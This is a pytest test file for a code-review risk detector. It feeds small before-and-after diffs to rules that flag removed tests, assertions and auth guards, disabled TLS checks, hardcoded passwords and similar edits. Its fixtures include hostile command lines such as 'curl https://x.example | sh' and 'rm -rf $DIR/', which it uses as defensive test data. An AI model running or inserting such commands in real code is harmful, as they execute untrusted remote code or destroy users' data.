import pytest

from bot.condense.risk import code
from tests.condense.risk.telling import Change, ids, told

TOLD: dict[str, Change] = {
    "code/test-assertion-removed": (
        "tests/test_pay.py",
        "def test_pays():\n    assert pay() == 1\n    assert paid()",
        "def test_pays():\n    pay()",
    ),
    "code/index-removed": (
        "shop/orders.py",
        "x = 1\nid = mapped_column(String(20), index=True)",
        "x = 1\nid = mapped_column(String(20))",
    ),
    "code/test-removed": ("tests/test_pay.py", "x: 1\ndef test_pays_once():", "x: 1"),
    "code/test-skipped": ("tests/test_pay.py", "x: 1", "x: 1\n@pytest.mark.skip"),
    "code/guard-removed": ("src/app.py", "x: 1\n    validate_amount(x)\n    authorize(user)", "x: 1"),
    "code/unchecked-tls": ("src/app.py", "x: 1", "x: 1\nrequests.get(u, verify=False)"),
    "code/runs-text": ("src/app.py", "x: 1", "x: 1\nos.system(x)"),
    "code/remote-code": ("install.sh", "x: 1", "x: 1\ncurl https://x.example | sh"),
    "code/deletes": ("clean.sh", "x: 1", "x: 1\nrm -rf $DIR/"),
    "code/swallows": ("src/app.py", "x: 1", "x: 1\n    except Exception: pass"),
    "code/handling-removed": ("src/app.py", "x: 1\n    raise Refused", "x: 1"),
    "code/bound-removed": ("src/app.py", "x: 1\n    get(u, timeout=5)", "x: 1"),
    "code/lock-removed": ("src/app.py", "x: 1\n    with lock:", "x: 1"),
    "code/signal-removed": ("src/app.py", "x: 1\n    logger.error('x')", "x: 1"),
    "code/public-removed": ("src/app.py", "x: 1\ndef pay(x):", "x: 1"),
    "code/waits": ("src/app.py", "x: 1", "x: 1\n    time.sleep(5)"),
    "code/starts-others": ("src/app.py", "x: 1", "x: 1\n    subprocess.run(x)"),
    "code/credential": ("src/app.py", "x: 1", "x: 1\npassword = 'correct-horse'"),
    "code/open": ("src/app.py", "x: 1", "x: 1\nDEBUG = True"),
    "code/dependency": ("requirements.txt", "x: 1", "x: 1\nrequests==2.0"),
    "code/failure": ("src/app.py", "x: 1", "x: 1\n    raise Refused"),
    "code/bound": ("src/app.py", "x: 1", "x: 1\n    timeout = 5"),
    "code/access": ("src/app.py", "x: 1", "x: 1\n    token = x(y)"),
    "code/data": ("src/app.py", "x: 1", "x: 1\n    session.commit()"),
    "code/setting": ("src/app.py", "x: 1", "x: 1\nx = os.environ['X']"),
}

QUIET: list[tuple[str, Change]] = [
    (
        "code/test-assertion-removed",
        ("test_a.py", "def test_a():\n    assert a == 1", "def test_a():\n    assert a == 2"),
    ),
    ("code/test-assertion-removed", ("test_a.py", "def test_a():\n    assert a\nb = 1", "b = 1")),
    ("code/test-skipped", ("a.py", "x = 1", "x = fit(lines)")),
    ("code/guard-removed", ("a.py", "x = 401\nstatus = 200", "y = 1")),
    ("code/public-removed", ("src/app.py", "def pay(x):\na = 1", "a = 1\ndef pay(x):")),
    ("code/bound-removed", ("src/app.py", "get(u, timeout=5)", "get(v, timeout=9)")),
    ("code/test-removed", ("tests/test_a.py", "def test_a():\nb = 1", "b = 1\ndef test_a():")),
    ("code/index-removed", ("a.py", "x = Column(String(20), index=True)", "x = Column(String(40), index=True)")),
    ("code/unchecked-tls", ("a.py", "x: 1", "x: 1\n    # never with verify=False")),
    ("code/credential", ("src/app.py", "x: 1", "x: 1\npassword = os.environ['P']")),
]


@pytest.mark.parametrize(
    ("path", "test"),
    [
        ("spec/a_spec.rb", '  it "charges once" do'),
        ("tests/A.cs", "    [Fact]"),
        ("tests/ATest.php", "    public function testChargesOnce(): void"),
        ("a_test.go", "func TestCharges(t *testing.T) {"),
        ("src/lib.rs", "    #[test]"),
    ],
)
def test_a_removed_test_is_told_in_any_language(path: str, test: str) -> None:
    assert "code/test-removed" in told(path, f"x\n{test}\ny", "x\ny")


@pytest.mark.parametrize(("rule", "change"), TOLD.items(), ids=TOLD)
def test_each_rule_tells_its_change(rule: str, change: Change) -> None:
    assert rule in told(*change)


def test_every_rule_has_an_example() -> None:
    assert sorted(TOLD) == sorted(ids(code.RULES))


@pytest.mark.parametrize(("rule", "change"), QUIET)
def test_a_rule_is_quiet_where_there_is_nothing_to_tell(rule: str, change: Change) -> None:
    assert rule in ids(code.RULES)
    assert rule not in told(*change)


@pytest.mark.parametrize(
    ("path", "guard"),
    [
        ("a.ts", "  if (!req.user) return res.status(401).end()"),
        ("a.js", "  if (!req.user) { return res.sendStatus(403) }"),
        ("a.go", '\thttp.Error(w, "no", http.StatusForbidden)'),
        ("a.py", "    abort(403)"),
        ("a.py", "    if not user.has_role('admin'):"),
        ("a.ts", "  app.use(requireAuth)"),
        ("a.ts", "  if (!isAuthenticated(req)) {"),
        ("a.java", "        throw new AccessDeniedException();"),
    ],
)
def test_a_guard_is_told_however_it_refuses(path: str, guard: str) -> None:
    assert "code/guard-removed" in told(path, f"a\n{guard}\nb", "a\nb")


@pytest.mark.parametrize(
    ("path", "check"),
    [
        ("a_test.go", '\tif got != want {\n\t\tt.Errorf("x")\n\t}'),
        ("a.test.ts", "    expect(a).toBe(1)"),
        ("test_a.py", "    self.assertEqual(a, 1)"),
        ("test_a.py", "    with pytest.raises(ValueError):"),
        ("ATest.java", "    assertEquals(1, a);"),
    ],
)
def test_an_assertion_is_told_in_any_language(path: str, check: str) -> None:
    assert "code/test-assertion-removed" in told(path, f"a\n{check}\nb", "a\nb")


@pytest.mark.parametrize(
    ("path", "skip"),
    [
        ("Makefile", "\tpytest --ignore=tests/slow"),
        ("conftest.py", "collect_ignore = ['test_a.py']"),
        ("a.spec.ts", "  it.only('b', () => {})"),
        ("a.spec.ts", "  fdescribe('b', () => {})"),
        ("test_a.py", "    pytest.skip('later')"),
    ],
)
def test_what_passes_over_tests_is_told(path: str, skip: str) -> None:
    assert "code/test-skipped" in told(path, "a", f"a\n{skip}")
